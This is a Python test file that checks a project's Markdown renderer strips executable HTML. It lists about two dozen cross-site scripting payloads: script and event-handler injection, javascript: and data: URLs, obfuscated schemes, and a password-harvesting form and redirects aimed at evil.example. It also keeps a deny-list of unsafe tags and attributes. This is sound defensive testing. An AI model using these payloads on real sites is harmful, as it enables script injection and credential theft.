"""The one Markdown pipeline never lets script through (RELIABILITY.md T9)."""

import re
from html.parser import HTMLParser

import pytest

from postmortems.markdown import render_markdown

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object>",
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p id="login" class="x">clobber</p>',
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '[x](https://ok.example "t" onmouseover=alert(1))',
    "<!-- <script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=https://evil.example/>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](&#x6A;avascript:alert(1))",
    "<<script>script>alert(1)<</script>/script>",
]

UNSAFE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "svg",
    "math",
    "form",
    "input",
    "meta",
    "base",
    "link",
    "details",
}


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in UNSAFE_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "id", "class", "srcdoc"}:
                self.problems.append(f"attribute {name}")
            if name in {"href", "src"} and value and _scheme(value) not in {"", "http", "https", "mailto"}:
                self.problems.append(f"url {value}")


def _scheme(url: str) -> str:
    """The scheme a browser would read (WHATWG URL: tab/newline removed, C0 and
    spaces trimmed); "" for a relative URL."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f ")
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    return match.group(1).lower() if match else ""


@pytest.mark.parametrize("vector", VECTORS)
def test_no_executable_html_survives(vector):
    html = render_markdown(vector)
    audit = _Audit()
    audit.feed(html)
    assert audit.problems == [], html


def test_markdown_features_survive_sanitising():
    html = render_markdown(
        "**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- item\n\n[docs](https://example.com)"
    )
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert "<li>item</li>" in html
    assert 'href="https://example.com"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_empty_text_renders_empty():
    assert render_markdown("") == ""
